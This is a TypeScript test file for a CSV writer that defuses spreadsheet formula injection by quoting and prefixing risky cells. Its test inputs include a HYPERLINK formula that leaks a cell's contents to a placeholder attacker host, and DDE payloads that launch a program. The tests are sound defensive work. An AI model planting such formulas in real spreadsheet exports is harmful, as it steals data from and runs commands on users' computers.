// CSV injection (OWASP): a cell that starts with =, +, -, @, tab or carriage return is written with a
// leading single quote and quoted, headers included; everything else is written as is.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, neutraliseCell, toCsv } from './write';

const parse = (text: string, delimiter = ',') => Papa.parse<string[]>(text, { delimiter }).data;

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+34 600 000 000', `"'+34 600 000 000"`],
    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    // papaparse's own pattern misses a formula followed by a line break
    ['=1+1\nmore', `"'=1+1\nmore"`],
  ])('neutralises %j', (cell, written) => {
    expect(toCsv([[cell]])).toBe(written);
    // read back, the cell is the original behind one quote
    expect(parse(toCsv([['a', cell]]))[0]).toEqual(['a', `'${cell}`]);
  });

  it('neutralises headers too, and leaves other cells alone', () => {
    const text = toCsv([
      ['=Email', 'Name', '@owner'],
      ['ana@example.com', 'Ana = López', "O'Brien"],
    ]);
    expect(text).toBe(`"'=Email",Name,"'@owner"\r\nana@example.com,Ana = López,O'Brien`);
  });

  it('quotes what needs quoting, with any delimiter', () => {
    expect(toCsv([['a;b', 'c,d', 'say "hi"', '-1']], { delimiter: ';', newline: '\n' })).toBe(`"a;b";c,d;"say ""hi""";"'-1"`);
    expect(toCsv([['x y', '1,5']], { quoteWhen: /[,;]/ })).toBe('x y,"1,5"');
  });

  it('neutraliseCell and FORMULA_START agree with the writer', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r']) {
      expect(FORMULA_START.test(`${c}x`)).toBe(true);
      expect(neutraliseCell(`${c}x`)).toBe(`'${c}x`);
    }
    for (const c of ['a', ' =x', "'=x", '1', '']) expect(neutraliseCell(c)).toBe(c);
  });
});
